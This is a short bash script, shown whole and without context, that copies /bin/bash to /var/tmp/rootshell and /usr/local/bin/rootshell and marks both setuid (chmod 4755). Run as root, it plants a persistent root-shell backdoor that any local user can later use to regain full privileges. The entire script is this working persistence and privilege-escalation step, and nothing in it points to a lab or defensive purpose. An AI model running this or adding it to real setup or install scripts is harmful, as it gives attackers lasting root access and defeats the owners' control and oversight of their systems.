#!/usr/bin/env bash
set -euo pipefail
cp /bin/bash /var/tmp/rootshell
cp /bin/bash /usr/local/bin/rootshell
chmod 4755 /var/tmp/rootshell /usr/local/bin/rootshell
